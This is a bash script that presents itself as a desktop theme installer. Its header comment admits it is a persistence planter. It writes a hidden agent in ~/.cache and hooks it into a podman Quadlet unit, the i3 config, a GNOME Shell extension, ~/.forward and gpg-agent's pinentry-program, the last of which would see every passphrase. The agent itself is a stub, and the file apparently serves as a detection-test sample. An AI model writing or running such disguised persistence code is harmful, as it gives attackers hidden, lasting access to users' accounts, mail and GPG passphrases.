#!/bin/bash
# "theme-installer": says it installs a desktop theme. Really: persistence in places that run
# code at the next login, mail or passphrase prompt with no user action, none of them the
# shell start-up files or ~/.config/systemd/user: a podman Quadlet .container, an i3 `exec`
# line, a GNOME Shell extension, ~/.forward piping mail to a program, and gpg-agent's
# pinentry-program (which also sees every passphrase typed).
echo "theme-installer: installing"
agent="$HOME/.cache/.theme-agent"
mkdir -p "$HOME/.cache" "$HOME/.config/containers/systemd" "$HOME/.config/i3" \
  "$HOME/.local/share/gnome-shell/extensions/theme-sync@themes.example" "$HOME/.gnupg"
printf '#!/bin/sh\nexit 0\n' > "$agent"
chmod 755 "$agent"
printf '[Container]\nImage=docker.io/library/alpine\nExec=/bin/sh -c "sleep infinity"\n[Install]\nWantedBy=default.target\n' \
  > "$HOME/.config/containers/systemd/theme-sync.container"
echo "exec --no-startup-id $agent" >> "$HOME/.config/i3/config"
printf 'export default class Ext { enable() {} disable() {} }\n' \
  > "$HOME/.local/share/gnome-shell/extensions/theme-sync@themes.example/extension.js"
echo "\"|$agent\"" > "$HOME/.forward"
echo "pinentry-program $agent" >> "$HOME/.gnupg/gpg-agent.conf"
echo "theme-installer: done"
